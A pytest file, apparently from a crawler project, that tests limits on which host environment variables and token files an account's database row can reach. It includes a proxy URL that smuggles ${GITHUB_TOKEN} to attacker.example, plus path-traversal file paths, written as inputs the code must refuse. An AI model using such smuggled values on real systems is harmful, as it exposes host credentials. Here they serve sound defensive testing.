"""What an account may use of a node's host: not what whoever writes the database would like to know."""

from __future__ import annotations

from pathlib import Path

import pytest

from crawlfleet.core.account import Account
from crawlfleet.core.errors import ProxyError, TokenUnavailable
from crawlfleet.core.reach import Reach
from crawlfleet.executors.contract import TaskContext
from crawlfleet.model.task_spec import Task
from crawlfleet.sources.http.proxies import ANY_VARIABLE, Proxy

TASK = Task(7, "some")
SECRET = "hunter2-of-the-host"


def refusal(reach: Reach | None = None, **place: str) -> str:
    account = Account("appsflyer", "u", reach=reach or Reach(), **place)  # type: ignore[arg-type]
    with pytest.raises(TokenUnavailable) as caught:
        account.token()
    assert SECRET not in str(caught.value)
    return str(caught.value)


def test_an_account_reads_only_variables_that_the_node_lets_it_read(monkeypatch: pytest.MonkeyPatch) -> None:
    """A row of the database could name any variable of the host, the key of sealed tokens among them."""
    for name in ("HOST_SECRET", "CRAWLFLEET_API_TOKEN", "crawlfleet_token", "MY_TOKEN"):
        monkeypatch.setenv(name, SECRET)
    assert "is not among token_variables (*TOKEN*) of this node" in refusal(token_env="HOST_SECRET")
    every = Reach(token_variables=("*",), proxy_variables=("*",))
    for name in ("CRAWLFLEET_API_TOKEN", "crawlfleet_token"):
        assert "is one of crawlfleet's own" in refusal(every, token_env=name)
        with pytest.raises(ProxyError, match="is one of crawlfleet's own"):
            Proxy(f"http://u:${{{name}}}@127.0.0.1:1", every.proxy_variables).open()
    assert Account("appsflyer", "u", token_env="MY_TOKEN").token() == SECRET
    assert Account("appsflyer", "u", token_env="HOST_SECRET", reach=Reach(token_variables=("HOST_*",))).token()


def test_the_proxy_of_an_account_is_told_no_other_secret_of_the_host(monkeypatch: pytest.MonkeyPatch) -> None:
    """`http://${CRAWLFLEET_SECRET_KEY}@attacker` as an account's proxy got the key of all sealed tokens."""
    for name in ("GITHUB_TOKEN", "MY_PROXY_PASSWORD", "OTHER"):
        monkeypatch.setenv(name, SECRET)
    stolen = "http://${GITHUB_TOKEN}@attacker.example:1"
    with pytest.raises(ProxyError, match="is not among proxy_variables") as caught:
        Proxy(stolen).open()
    assert SECRET not in str(caught.value)
    with pytest.raises(ProxyError, match="is not among proxy_variables"):
        TaskContext(TASK, Account("s", "u", token_env="MY_TOKEN", proxy=stolen)).with_secrets()
    assert Proxy("http://u:${MY_PROXY_PASSWORD}@127.0.0.1:1").open().auth == ("u", SECRET)
    assert Proxy("http://u:${OTHER}@127.0.0.1:1", ANY_VARIABLE).open().auth == ("u", SECRET), "of the node's settings"


def test_token_files_are_in_one_folder(tmp_path: Path) -> None:
    """A row of the database could name any file of the host."""
    folder = tmp_path / "tokens"
    folder.mkdir()
    (folder / "a").write_text("mine")
    (folder / "a").chmod(0o600)
    (tmp_path / "b").write_text(SECRET)
    (tmp_path / "tokens-b").write_text(SECRET)
    reach = Reach(token_folder=str(folder))
    assert Account("appsflyer", "u", token_file=str(folder / "a"), reach=reach).token() == "mine"
    for path in (tmp_path / "b", folder / ".." / "b", tmp_path / "tokens-b", "tokens/a", "b"):
        assert f"is not in token_folder ({folder}) of this node" in refusal(reach, token_file=str(path))
    assert "(/run/secrets)" in refusal(token_file=str(folder / "a"))
